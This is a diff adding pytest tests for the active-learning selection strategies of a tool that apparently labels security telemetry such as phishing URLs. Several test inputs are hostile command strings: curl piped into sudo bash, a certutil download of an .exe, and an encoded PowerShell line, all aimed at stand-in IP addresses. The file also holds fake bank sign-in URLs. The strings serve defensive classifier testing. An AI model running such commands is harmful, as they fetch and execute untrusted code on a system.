@@ -1,0 +1,73 @@
+"""Selection strategies: what to spend teacher calls on."""
+
+import gzip
+import json
+
+import numpy as np
+import pytest
+
+from smallworld import label as L
+from smallworld.student.linear import LinearStudent
+
+
+def _rows(texts):
+    return [{"id": str(i), "text": t} for i, t in enumerate(texts)]
+
+
+def test_near_duplicates_cluster_and_unrelated_do_not():
+    texts = [f"http://shop.example-store.test/catalog/item.php?id={i}&ref=mail" for i in range(20)]
+    texts += ["https://docs.python.org/3/library/json.html", "powershell -enc SQBFAFgA", "git status"]
+    cl = L.near_duplicate_clusters(texts)
+    assert len(set(cl[:20])) == 1
+    assert len(set(cl)) == 4
+
+
+def test_dedup_asks_one_representative_and_the_rest_inherit():
+    texts = [f"curl -s http://198.51.100.{i}/install.sh | sudo bash -s -- --token abcdef" for i in range(10, 40)]
+    texts += ["ls -la", "ping -c 4 10.0.0.1"]
+    sel = L.select("dedup", _rows(texts), budget=10)
+    assert len(sel.ask) == 3
+    inherited = sum(len(v) for v in sel.members.values())
+    assert inherited == 29 and len(sel.ask) + inherited == len(texts)
+
+
+def test_exact_duplicates_and_already_labelled_rows_are_never_asked():
+    rows = _rows(["ls -la", "LS   -la", "git status", "whoami"])
+    picked = L.select("random", rows, budget=10, exclude={"whoami"}).ask
+    texts = [rows[i]["text"] for i in picked]
+    assert sorted(L._fold(t) for t in texts) == ["git status", "ls -la"]
+
+
+def test_uncertainty_picks_the_smallest_margins():
+    texts = ["alpha"] * 5 + ["beta"] * 5
+    m = LinearStudent(("a", "b"), {"dim_bits": 10}).fit(texts, np.array([[1, 0]] * 5 + [[0, 1]] * 5, float))
+    rows = _rows(["alpha", "beta", "alpha beta", "gamma alpha beta"])
+    sel = L.select("uncertainty", rows, budget=2, student=m, feature_cfg={"dim_bits": 10})
+    margins = L.margins(m, [r["text"] for r in rows])
+    assert sorted(sel.ask) == sorted(np.argsort(margins)[:2].tolist())
+
+
+def test_diversity_covers_distinct_groups_first():
+    groups = [[f"certutil -urlcache -split -f http://203.0.113.{i}/a.exe a.exe" for i in range(30)],
+              [f"https://login.bank{i}.example.test/signin?session={i}" for i in range(30)],
+              [f"Subject: your invoice {i} is attached please review" for i in range(30)]]
+    texts = [t for g in groups for t in g]
+    sel = L.select("diversity", _rows(texts), budget=3, feature_cfg={"dim_bits": 16})
+    assert sorted(i // 30 for i in sel.ask) == [0, 1, 2]
+
+
+def test_combined_on_real_telemetry_is_fast_and_within_budget(data_dir):
+    rows = [json.loads(x) for x in gzip.open(data_dir / "urls" / "telemetry.jsonl.gz", "rt")]
+    seed = [json.loads(x) for x in gzip.open(data_dir / "urls" / "train.jsonl.gz", "rt")][:500]
+    m = LinearStudent(("phishing", "benign")).fit(
+        [r["text"] for r in seed], np.array([[r["label"] == "phishing", r["label"] == "benign"] for r in seed], float))
+    sel = L.select("combined", rows, budget=200, student=m, feature_cfg={}, known_texts=[r["text"] for r in seed])
+    assert len(sel.ask) == 200 and len(set(sel.ask)) == 200
+    folded = [L._fold(rows[i]["text"]) for i in sel.ask]
+    assert len(set(folded)) == 200
+
+
+@pytest.mark.parametrize("strategy", L.STRATEGIES)
+def test_every_strategy_runs_with_an_empty_pool(strategy):
+    m = LinearStudent(("a", "b"), {"dim_bits": 10}).fit(["x", "y"], np.eye(2))
+    assert L.select(strategy, [], budget=5, student=m, feature_cfg={"dim_bits": 10}).ask == []
